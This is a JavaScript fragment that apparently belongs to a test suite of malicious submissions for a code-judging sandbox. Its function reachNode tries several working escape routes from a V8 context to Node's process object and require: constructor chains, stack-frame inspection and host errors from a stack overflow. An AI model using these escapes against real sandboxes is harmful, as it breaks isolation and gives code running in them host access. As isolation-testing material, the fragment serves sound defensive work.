// Put into the JavaScript attacks under malicious/ in place of their __NODE_ESCAPE_ROUTES__ line
// (test_judge_malicious), so that each attack tries every route out of a test's context.
// Every route from a test's V8 context to Node's powers: Node's own globals, the
// constructors of objects the driver hands in (console, module, the global), host frames
// in a stack trace, an error thrown by host code (a stack overflow inside console.log).
function reachNode() {
    const routes = [
        () => process,
        () => require('process'),
        () => globalThis.constructor.constructor('return process')(),
        () => Object.getPrototypeOf(globalThis).constructor.constructor('return process')(),
        () => console.log.constructor('return process')(),
        () => module.constructor.constructor('return process')(),
        () => {
            let found = null;
            const saved = Error.prepareStackTrace;
            Error.prepareStackTrace = (error, frames) => {
                for (const frame of frames) {
                    for (const get of [() => frame.getThis(), () => frame.getFunction()]) {
                        try { found = get().constructor.constructor('return process')() || found; } catch (e) { }
                    }
                }
                return '';
            };
            try { void new Error().stack; } finally { Error.prepareStackTrace = saved; }
            return found;
        },
        () => {
            let found = null;
            const deep = () => {
                try { deep(); } catch (e) {
                    try { console.log(Object.create(null)); } catch (h) {
                        try { found = h.constructor.constructor('return process')(); } catch (x) { }
                    }
                }
            };
            deep();
            return found;
        },
    ];
    for (const route of routes) {
        try { const p = route(); if (p && typeof p === 'object' && p.env) return p; } catch (e) { }
    }
    return null;
}
function nodeRequire(p) {
    try { if (typeof require === 'function') return require; } catch (e) { }
    if (p === undefined) p = reachNode();
    return p && p.mainModule ? (name) => p.mainModule.require(name) : null;
}
